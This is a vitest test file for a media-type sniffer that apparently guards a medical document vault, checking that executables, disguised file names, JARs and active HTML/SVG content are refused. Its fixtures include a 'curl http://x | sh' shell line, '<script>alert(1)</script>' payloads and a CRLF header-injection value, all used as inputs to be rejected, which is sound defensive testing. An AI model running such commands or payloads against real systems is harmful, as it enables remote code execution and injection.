import crypto from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { sniffMediaType } from '../../vault/sniff.js';
import { cdaXml, pdfBytes, xdmZip } from './xdm/fixtures.js';
import { buildZip } from './xdm/zip-writer.js';

/** Deterministic pseudo-random bytes (SHA-256 in counter mode), so the "random" case cannot flake. */
function noise(n: number, seed = 'sniff'): Buffer {
  const out: Buffer[] = [];
  for (let i = 0; out.length * 32 < n; i++) out.push(crypto.createHash('sha256').update(`${seed}:${i}`).digest());
  return Buffer.concat(out).subarray(0, n);
}

const PNG = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.from('0000000d49484452000000010000000108060000001f15c489', 'hex'),
  Buffer.from('0000000d4944415478da6364f8ffbf1e0005fe02fea7d6a1dc0000000049454e44ae426082', 'hex'),
]);
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), noise(300, 'jpeg'), Buffer.from('ffd9', 'hex')]);

function mz(): Buffer {
  const b = Buffer.concat([Buffer.from('MZ'), noise(4200, 'pe')]);
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  return b;
}

describe('sniffMediaType', () => {
  it('keeps the sniffed type and reports a mismatch: PDF declared as image/png', async () => {
    const r = await sniffMediaType(pdfBytes(), 'image/png', 'scan.png');
    expect(r.mediaType).toBe('application/pdf');
    expect(r.verdict).toBe('mismatch');
    expect(r.reason).toMatch(/image\/png/);
  });

  it('refuses an MZ executable named report.pdf and declared as PDF', async () => {
    const r = await sniffMediaType(mz(), 'application/pdf', 'report.pdf');
    expect(r.verdict).toBe('refused');
    expect(r.mediaType).toBe('application/x-msdownload');
  });

  it('refuses ELF, Mach-O and #! scripts by content', async () => {
    expect((await sniffMediaType(Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), noise(200)]), null, 'result.txt')).verdict).toBe('refused');
    expect((await sniffMediaType(Buffer.concat([Buffer.from('cffaedfe', 'hex'), noise(200)]), null, null)).verdict).toBe('refused');
    const sh = await sniffMediaType(Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), 'text/plain', 'notes.txt');
    expect(sh).toMatchObject({ verdict: 'refused', mediaType: 'text/x-shellscript' });
  });

  it('refuses harmless bytes sent under an executable name or type', async () => {
    for (const name of ['resultats.exe', 'ordonnance.PDF.js', 'run.bat', 'x.cmd', 'a.vbs', 'b.ps1', 'setup.msi', 'c.scr', 'lib.jar', 'app.apk', 'evil.exe.']) {
      const r = await sniffMediaType(Buffer.from('plain text'), 'text/plain', name);
      expect(r.verdict, name).toBe('refused');
    }
    for (const t of ['application/x-msdownload', 'application/x-executable', 'application/java-archive', 'application/javascript']) {
      expect((await sniffMediaType(pdfBytes(), t, 'x.pdf')).verdict, t).toBe('refused');
    }
  });

  it('refuses a JAR (zip with a manifest) by content', async () => {
    const jar = buildZip([
      { name: 'META-INF/MANIFEST.MF', data: Buffer.from('Manifest-Version: 1.0\r\nMain-Class: Evil\r\n') },
      { name: 'Evil.class', data: Buffer.concat([Buffer.from('cafebabe', 'hex'), noise(100)]) },
    ]);
    const r = await sniffMediaType(jar, 'application/zip', 'documents.zip');
    expect(r).toMatchObject({ verdict: 'refused', mediaType: 'application/java-archive' });
  });

  it('refuses unknown binary (random bytes)', async () => {
    const r = await sniffMediaType(noise(5000), 'application/pdf', 'compte-rendu.pdf');
    expect(r).toMatchObject({ verdict: 'refused', mediaType: 'application/octet-stream' });
  });

  it('refuses known types that are not accepted (legacy OLE documents, archives other than zip)', async () => {
    const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(5000, 'ole')]);
    expect((await sniffMediaType(ole, 'application/msword', 'lettre.doc')).verdict).toBe('refused');
    const gz = Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), noise(300)]);
    expect((await sniffMediaType(gz, null, 'x.gz')).verdict).toBe('refused');
  });

  it('refuses HTML and SVG (active content)', async () => {
    expect((await sniffMediaType(Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'), 'text/plain', 'a.txt')).verdict).toBe('refused');
    const svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
    expect((await sniffMediaType(Buffer.from(svg), 'image/svg+xml', 'a.svg')).verdict).toBe('refused');
  });

  it('detects a CDA, and accepts it declared as text/xml', async () => {
    const r = await sniffMediaType(cdaXml({ code: '11502-2' }), 'text/xml', 'DOC0001.XML');
    expect(r).toEqual({ mediaType: 'application/cda+xml', verdict: 'ok' });
    const bare = await sniffMediaType(Buffer.from('<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="1"/></ClinicalDocument>'), null, null);
    expect(bare.mediaType).toBe('application/cda+xml');
  });

  it('detects other XML as application/xml', async () => {
    expect(await sniffMediaType(Buffer.from('<?xml version="1.0"?><note>x</note>'), 'application/xml', 'a.xml')).toEqual({
      mediaType: 'application/xml',
      verdict: 'ok',
    });
  });

  it('accepts text, UTF-8 or windows-1252', async () => {
    expect(await sniffMediaType(Buffer.from('Résultats normaux.\r\nÀ revoir dans 3 mois.\r\n'), 'text/plain; charset=utf-8', 'note.txt')).toEqual({
      mediaType: 'text/plain',
      verdict: 'ok',
    });
    expect((await sniffMediaType(Buffer.from('R\xe9sultats normaux\r\n', 'latin1'), 'text/plain', null)).verdict).toBe('ok');
  });

  it('keeps CSV declared as CSV, including the Windows application/vnd.ms-excel habit', async () => {
    const csv = Buffer.from('date;analyse;valeur\n2024-03-12;glycémie;0,95\n');
    expect(await sniffMediaType(csv, 'text/csv', 'r.csv')).toEqual({ mediaType: 'text/csv', verdict: 'ok' });
    expect(await sniffMediaType(csv, 'application/vnd.ms-excel', 'r.csv')).toEqual({ mediaType: 'text/csv', verdict: 'ok' });
  });

  it('detects HL7 v2', async () => {
    const hl7 = Buffer.from('MSH|^~\\&|LAB|CH|DPI|CH|20240312093000||ORU^R01|123|P|2.5\rPID|1||123^^^CH||TEST^MARIE\r');
    expect(await sniffMediaType(hl7, 'application/x-hl7', 'result.hl7')).toEqual({ mediaType: 'x-application/hl7-v2+er7', verdict: 'ok' });
  });

  it('accepts images, DICOM and RTF, with aliases folded (image/jpg = image/jpeg)', async () => {
    expect(await sniffMediaType(PNG, 'image/png', 'a.png')).toEqual({ mediaType: 'image/png', verdict: 'ok' });
    expect(await sniffMediaType(JPEG, 'image/jpg', 'photo.JPG')).toEqual({ mediaType: 'image/jpeg', verdict: 'ok' });
    expect(await sniffMediaType(pdfBytes(), 'application/x-pdf; name="cr.pdf"', 'cr.pdf')).toEqual({ mediaType: 'application/pdf', verdict: 'ok' });
    const dicom = Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), noise(1000, 'dcm')]);
    expect(await sniffMediaType(dicom, 'application/dicom', 'IM0001.dcm')).toEqual({ mediaType: 'application/dicom', verdict: 'ok' });
    expect(await sniffMediaType(Buffer.from('{\\rtf1\\ansi Compte rendu}'), 'application/rtf', 'cr.rtf')).toEqual({
      mediaType: 'application/rtf',
      verdict: 'ok',
    });
  });

  it('accepts an IHE XDM zip, and DOCX / ODT by their zip content', async () => {
    expect(await sniffMediaType(xdmZip(), 'application/zip', 'IHE_XDM.ZIP')).toEqual({ mediaType: 'application/zip', verdict: 'ok' });
    const docx = buildZip([
      {
        name: '[Content_Types].xml',
        data: Buffer.from(
          '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        ),
      },
      { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
    ]);
    const d = await sniffMediaType(docx, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'lettre.docx');
    expect(d).toEqual({ mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', verdict: 'ok' });
    const odt = buildZip([
      { name: 'mimetype', data: Buffer.from('application/vnd.oasis.opendocument.text') },
      { name: 'content.xml', data: Buffer.from('<x/>') },
    ]);
    expect((await sniffMediaType(odt, null, 'lettre.odt')).mediaType).toBe('application/vnd.oasis.opendocument.text');
  });

  it('reports a file extension that contradicts the content, keeping the sniffed type', async () => {
    const r = await sniffMediaType(pdfBytes(), null, 'photo.jpg');
    expect(r).toMatchObject({ mediaType: 'application/pdf', verdict: 'mismatch' });
    expect(r.reason).toMatch(/\.jpg/);
  });

  it('does not call application/octet-stream a mismatch', async () => {
    expect(await sniffMediaType(pdfBytes(), 'application/octet-stream', null)).toEqual({ mediaType: 'application/pdf', verdict: 'ok' });
    // A malformed declared type claims nothing either, and is not echoed into `reason`.
    expect(await sniffMediaType(pdfBytes(), 'image/png\r\nX-Injected: 1', null)).toEqual({ mediaType: 'application/pdf', verdict: 'ok' });
  });
});
